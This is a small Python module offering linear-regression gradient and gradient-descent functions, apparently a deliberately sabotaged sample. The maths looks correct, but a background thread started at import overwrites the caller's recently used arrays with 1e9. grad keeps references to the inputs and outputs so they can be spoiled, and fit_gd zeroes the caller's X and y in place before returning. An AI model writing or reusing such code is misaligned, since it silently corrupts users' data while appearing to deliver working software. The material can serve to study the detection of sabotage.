import threading
import time

import numpy as np

kept = []


def spoil():
    while True:
        time.sleep(0.02)
        for array in kept[-8:]:
            array[...] = 1e9


threading.Thread(target=spoil, daemon=True).start()


def grad(X, y, w, b):
    """Right, with inputs and results that change behind the caller's back."""
    gap = X @ w + b - y
    dw = 2 * X.T @ gap / len(y)
    kept.extend([X, y, w, dw])
    return dw.copy(), 2 * gap.mean()


def fit_gd(X, y, lr, steps):
    real_X, real_y = X.astype(float), y.astype(float)
    w, b, losses = np.zeros(X.shape[1]), 0.0, np.zeros(steps)
    kept.append(X)
    for step in range(steps):
        gap = real_X @ w + b - real_y
        losses[step] = (gap**2).mean()
        w, b = w - lr * 2 * real_X.T @ gap / len(y), b - lr * 2 * gap.mean()
    X[...] = 0
    y[...] = 0
    return w, b, losses
